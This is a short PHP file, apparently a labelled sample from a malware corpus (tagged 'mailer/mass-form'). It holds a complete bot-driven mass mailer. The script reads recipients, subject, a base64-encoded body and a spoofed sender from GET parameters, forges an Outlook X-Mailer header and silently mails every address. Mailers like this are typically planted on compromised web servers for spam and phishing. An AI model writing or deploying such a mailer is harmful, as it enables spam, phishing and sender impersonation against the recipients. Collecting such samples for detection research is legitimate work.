<?php
// Family: mailer/mass-form
// Style: GET query-string sender driven by a bot
// Trait: comma-separated recipients in the query string, headers assembled by hand, no HTML
$t = explode(',', $_GET['t']);
$s = $_GET['s'];
$m = base64_decode($_GET['m']);
$f = $_GET['f'];
$hd = "MIME-Version: 1.0\nContent-type: text/html; charset=utf-8\nFrom: $f\nX-Mailer: Microsoft Office Outlook 12.0\n";
foreach ($t as $one) { @mail(trim($one), $s, $m, $hd); }
die('done ' . count($t));
